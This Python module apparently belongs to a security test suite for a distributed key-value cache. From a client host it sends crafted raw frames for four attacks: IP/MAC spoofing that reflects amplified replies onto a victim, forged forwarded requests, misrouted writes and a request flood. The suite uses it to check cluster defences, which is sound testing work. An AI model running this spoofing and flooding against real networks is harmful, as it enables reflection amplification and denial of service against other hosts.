"""Data-plane attacks, run as a process on an attacker's client host by the suite:

    python -m exo_attack.frame_attack --iface client2-eth0 --attack spoof \
        --victim-mac 02:00:00:00:03:01 --victim-ip 10.0.3.1 --key attack:spoof --out result.json

    spoof        PUTs whose source MAC and IP are another client's: replies (up to 20x larger
                 than a GET) would go to the victim
    forwarded    GETs dressed as a cache node's forwarded misses (FORWARDED flag; prefix --prefix,
                 by default 0xBA, the prefix forwards had before 0xAE)
    wrong_owner  a PUT whose destination carries the hash of another key, owned by another db
                 node: applied there, it would be acknowledged and never read again
    flood        GETs as fast as this host can send, for --seconds

The frames are well formed (checksums right), so only the defences under test stop them. The
result records what was sent; whether it got through is judged by the suite from the cluster
(a value that appears, a node counter that moves, the switch's rule and meter counters).
"""
from __future__ import annotations

import argparse
import json
import os
import socket
import struct
import sys
import time
from pathlib import Path

from exoskeleton import wire
from exoskeleton.keyhash import PREFIX_OTHER, key_hash, request_ip, request_mac
from exoskeleton.rawio import interface_addresses

UDP_SRC = 40999


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def _frame(dst_key: bytes, key: bytes, op: int, src_mac: bytes, src_ip: bytes, udp_port: int,
           value: bytes = b"", flags: int = 0, prefix: int | None = None, seq: int = 1, dscp: int = 0) -> bytes:
    """A request for `key` routed as if for `dst_key` (the same key unless lying on purpose);
    dscp: the IPv4 DSCP to carry (the switch's mark of a cache node's forwarded frames)."""
    h = key_hash(dst_key)
    if prefix is None:
        prefix = wire.PREFIX_GET if op == wire.OP_GET else PREFIX_OTHER
    msg = wire.Message(opcode=op, status=0, flags=flags, client_id=0x7A7A, seq=seq, key=key, value=value)
    frame = bytearray(wire.encode_frame(request_mac(prefix, h), src_mac, src_ip, request_ip(h), UDP_SRC,
                                        udp_port, msg))
    if dscp:
        ip_at = wire.OFFSET["ip_version_ihl"]
        frame[wire.OFFSET["ip_tos"]] = dscp << 2
        struct.pack_into("!H", frame, wire.OFFSET["ip_checksum"], 0)
        struct.pack_into("!H", frame, wire.OFFSET["ip_checksum"],
                         wire.ip_checksum(bytes(frame[ip_at:ip_at + wire.IP_LEN])))
    return bytes(frame)


def _replies(rx: socket.socket, listen_s: float) -> dict:
    """Replies that reached this host within listen_s, by status (0 = OK)."""
    by_status: dict[int, int] = {}
    end = time.monotonic() + listen_s
    while True:
        left = end - time.monotonic()
        if left <= 0:
            return by_status
        rx.settimeout(left)
        try:
            data = rx.recv(65536)
        except socket.timeout:
            return by_status
        try:
            msg = wire.decode_payload(data)
        except wire.MalformedFrame:
            continue
        by_status[msg.status] = by_status.get(msg.status, 0) + 1


def run(a) -> dict:
    mac, ip = interface_addresses(a.iface)
    tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    tx.bind((a.iface, 0))
    # Replies come back to UDP_SRC on this host's address (the spoof's go to the victim).
    rx = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rx.bind((socket.inet_ntoa(ip), UDP_SRC))
    key = a.key.encode()
    sent = 0
    if a.attack == "spoof":
        src_mac, src_ip = _mac(a.victim_mac), socket.inet_aton(a.victim_ip)
        for i in range(a.count):
            tx.send(_frame(key, key, wire.OP_PUT, src_mac, src_ip, a.udp_port, b"SPOOFED", seq=i + 1))
            sent += 1
    elif a.attack == "forwarded":
        for i in range(a.count):
            tx.send(_frame(key, key, wire.OP_GET, mac, ip, a.udp_port, flags=wire.FLAG_FORWARDED,
                           prefix=a.prefix or PREFIX_OTHER, seq=i + 1, dscp=a.dscp))
            sent += 1
    elif a.attack == "wrong_owner":
        for i in range(a.count):
            tx.send(_frame(a.route_key.encode(), key, wire.OP_PUT, mac, ip, a.udp_port, b"MISROUTED", seq=i + 1))
            sent += 1
    elif a.attack == "flood":
        frames = [_frame(b"flood:%d" % i, b"flood:%d" % i, wire.OP_GET, mac, ip, a.udp_port, seq=i)
                  for i in range(256)]
        end = time.monotonic() + a.seconds
        while time.monotonic() < end:
            for f in frames:
                try:
                    tx.send(f)
                    sent += 1
                except OSError:  # the host's own queue is full: that is the ceiling here
                    pass
    else:
        raise ValueError(a.attack)
    replies = _replies(rx, a.listen_s)
    tx.close()
    rx.close()
    return {"attack": a.attack, "sent": sent, "replies_by_status": replies,
            "ok_replies": replies.get(0, 0), "src_mac": mac.hex(":"), "pid": os.getpid()}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--iface", required=True)
    ap.add_argument("--attack", required=True, choices=("spoof", "forwarded", "wrong_owner", "flood"))
    ap.add_argument("--key", default="attack:key")
    ap.add_argument("--route-key", default="", help="wrong_owner: the key whose hash the frame carries")
    ap.add_argument("--victim-mac", default="")
    ap.add_argument("--victim-ip", default="")
    ap.add_argument("--count", type=int, default=20)
    ap.add_argument("--dscp", type=int, default=0, help="forwarded: the IPv4 DSCP the frames carry")
    ap.add_argument("--prefix", type=int, default=0,
                    help="forwarded: the dst MAC's first byte (e.g. 174 = 0xAE); 0: 0xBA")
    ap.add_argument("--seconds", type=float, default=1.0)
    ap.add_argument("--udp-port", type=int, default=7777)
    ap.add_argument("--listen-s", type=float, default=1.0, help="how long to count replies after sending")
    ap.add_argument("--out", required=True, type=Path)
    a = ap.parse_args(argv)
    if not 0 <= a.prefix <= 0xFF:
        ap.error(f"--prefix: {a.prefix} is not a byte (0-255)")
    a.out.write_text(json.dumps(run(a)))
    return 0


if __name__ == "__main__":
    sys.exit(main())
